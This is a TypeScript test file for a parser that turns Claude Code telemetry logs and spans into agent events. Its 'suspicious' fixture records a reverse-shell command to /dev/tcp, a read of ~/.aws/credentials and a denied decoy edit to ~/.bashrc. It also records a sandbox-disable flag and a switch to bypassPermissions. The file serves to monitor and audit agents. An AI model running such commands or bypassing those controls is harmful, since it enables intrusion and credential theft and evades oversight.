import { fixture, line, step, tell } from '../../test/support/recorded';
import type { AgentEvent } from '../../contracts/event';
import type { AttributeValue, LogRecord } from '../../contracts/telemetry';
import { claudeCode } from './claude-code';
import type { EventDraft } from './dialect';

const notes = (event: AgentEvent | undefined) =>
  event?.visibility?.map(({ field, state }) => `${field} ${state}`) ?? [];
const find = (events: readonly AgentEvent[], text: string) => events.find((event) => line(event).startsWith(text));

describe('with all content shown', () => {
  const { events, links, ignored, unknownScopes } = tell(fixture('claude-code/suspicious-full'));

  it('tells a command by decision, result and spans alike, and how it ended', () => {
    const command = "exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'";
    expect(step(events, 1)).toEqual([
      `tool_decision approved: ${command}`,
      `tool_result failed: ${command} (error)`,
      `claude_code.tool.blocked_on_user approved: ${command}`,
      `claude_code.tool.execution failed: ${command} (error)`,
      `claude_code.tool started: ${command}`,
    ]);
  });

  it('takes the output of a call that ran from its span', () => {
    const read = events.find((event) => event.source.record === 'claude_code.tool' && event.phase === 'completed');
    expect(read?.action).toEqual({ type: 'file.read', tool: 'Read', path: '/home/dev/.aws/credentials' });
    expect(read?.outcome?.output).toContain('AKIAIOSFODNN7EXAMPLE');
  });

  it('knows that a rejected call did not run, though its span says execute_tool', () => {
    const command = 'exec command=echo \'alias ls="ls --color" # decoy line\' >> ~/.bashrc';
    expect(step(events, 6)).toEqual([
      `tool_decision denied: ${command} (denied)`,
      `claude_code.tool.blocked_on_user denied: ${command} (denied)`,
      `claude_code.tool started: ${command}`,
    ]);
  });

  it('gives all records of the session one scope, and links its trace and host', () => {
    expect(new Set(events.map((event) => event.scope)).size).toBe(1);
    expect(events[0]?.scope).toBe(`session:claude-code:${events[0]?.session}`);
    expect(new Set(links.map((link) => link.kind))).toEqual(new Set(['trace-session', 'session-host']));
  });

  it('counts a model call once: the log, not the span', () => {
    expect(events.filter(({ action }) => action.type === 'model.call' && action.metric === undefined)).toHaveLength(1);
    expect(ignored).toContainEqual({ dialect: 'claude-code', reason: 'duplicate', count: 2 });
    expect(unknownScopes).toBe(0);
  });

  it('adds cached tokens to the input, as everywhere else', () => {
    const call = events.find(({ action }) => action.type === 'model.call')?.action;
    expect(call).toMatchObject({ inputTokens: 15 + 15_100 + 240, cachedInputTokens: 15_100, outputTokens: 82 });
    expect(call).toMatchObject({ cost: { amount: 0.006705, unit: 'USD' } });
  });

  it('keeps token metrics apart as sums since the last export', () => {
    const sums = events.flatMap(({ action }) => (action.type === 'model.call' && action.metric ? [action] : []));
    expect(sums.map((action) => action.metric?.temporality)).toEqual(sums.map(() => 'delta'));
    expect(sums).toContainEqual(expect.objectContaining({ inputTokens: 378_400, cachedInputTokens: 378_400 }));
  });
});

describe('the harmless run', () => {
  const { events } = tell(fixture('claude-code/benign-full'));

  it('reads files, edits, MCP calls and a sub-agent', () => {
    expect(step(events, 2)).toContain('tool_result completed: file.read path=/home/dev/project/src/calc.js (ok)');
    expect(step(events, 5)).toContain(
      'tool_result completed: file.write path=/home/dev/project/src/calc.js content=  return a + b; removed=  return a - b; // bug edit=true (ok)',
    );
    expect(step(events, 11)).toContain(
      'tool_result completed: mcp.call server=notes arguments={"key":"release","limit":2} (ok)',
    );
    expect(find(events, 'subagent_completed')?.action).toMatchObject({ childAgentId: 'ae782ee2ef25cf488' });
  });

  it('names an MCP tool alike in log and span', () => {
    const tools = events.flatMap(({ action }) =>
      action.type === 'mcp.call' ? [`${action.server} ${action.tool}`] : [],
    );
    expect(new Set(tools)).toEqual(new Set(['notes lookup']));
  });
});

describe('with the default settings', () => {
  const { events } = tell(fixture('claude-code/suspicious-default'));

  it('says what is hidden and which setting shows it', () => {
    const result = find(events, 'tool_result failed: exec');
    expect(result?.visibility).toEqual([
      {
        field: 'outcome.output',
        state: 'hidden',
        setting: 'CLAUDE_CODE_ENHANCED_TELEMETRY_BETA=1 OTEL_TRACES_EXPORTER=otlp OTEL_LOG_TOOL_CONTENT=1',
      },
      { field: 'action.command', state: 'hidden', setting: 'OTEL_LOG_TOOL_DETAILS=1' },
    ]);
    expect(notes(find(events, 'user_prompt'))).toEqual(['action.text hidden']);
    expect(find(events, 'user_prompt')?.action).toEqual({ type: 'prompt', origin: 'unknown' });
  });

  it('takes no placeholder for a name', () => {
    const { events: traced } = tell(fixture('claude-code/benign-traces'));
    const logged = traced.find(({ source, action }) => source.record === 'tool_result' && action.type === 'mcp.call');
    expect(logged?.action).toEqual({ type: 'mcp.call', tool: '' });
    expect(notes(logged)).toEqual(['action.tool hidden', 'action.arguments hidden']);
  });
});

describe('single records', () => {
  const log = (attributes: Record<string, AttributeValue>): LogRecord => ({
    kind: 'log',
    origin: { resource: {}, scope: { name: 'com.anthropic.claude_code.events', version: '2', attributes: {} } },
    timeUnixNano: 1_795_000_000_000_000_000n,
    observedUnixNano: 0n,
    severityNumber: 0,
    severityText: '',
    body: `claude_code.${attributes['event.name'] as string}`,
    eventName: '',
    attributes: { 'session.id': 's', ...attributes },
    traceId: '',
    spanId: '',
  });
  const drafts = (attributes: Record<string, AttributeValue>) => claudeCode.read(log(attributes)) as EventDraft[];

  it('prefers the whole command to the cut input', () => {
    const command = `echo ${'x'.repeat(2_000)}`;
    const [draft] = drafts({
      'event.name': 'tool_result',
      tool_name: 'Bash',
      tool_parameters: JSON.stringify({ bash_command: 'echo', full_command: command, dangerouslyDisableSandbox: true }),
      tool_input: JSON.stringify({ command: `${command.slice(0, 128)}…[2005 chars]` }),
    });
    expect(draft?.action).toMatchObject({ command, unsandboxed: true });
    expect(draft?.visibility).not.toContainEqual(expect.objectContaining({ field: 'action.command' }));
  });

  it('notes how long a cut file was', () => {
    const [draft] = drafts({
      'event.name': 'tool_result',
      tool_name: 'Write',
      tool_input: JSON.stringify({ file_path: '/srv/a', content: 'begin…[9000 chars]' }),
    });
    expect(draft?.action).toMatchObject({ path: '/srv/a', content: 'begin' });
    expect(draft?.visibility).toContainEqual({ field: 'action.content', state: 'truncated', originalLength: 9_000 });
  });

  it('tells a machine-made turn from a prompt', () => {
    const [draft] = drafts({ 'event.name': 'user_prompt', prompt: '<task-notification> agent done' });
    expect(draft?.action).toMatchObject({ type: 'prompt', origin: 'machine' });
  });

  it('tells a change of the permission mode', () => {
    const [draft] = drafts({
      'event.name': 'permission_mode_changed',
      from_mode: 'default',
      to_mode: 'bypassPermissions',
    });
    expect(draft?.action).toEqual({
      type: 'config.change',
      setting: 'permission_mode',
      from: 'default',
      to: 'bypassPermissions',
    });
  });

  it('passes over events that it does not know, whatever they are called', () => {
    expect(claudeCode.read(log({ 'event.name': 'constructor' }))).toEqual({ ignored: 'unknown event' });
  });
});
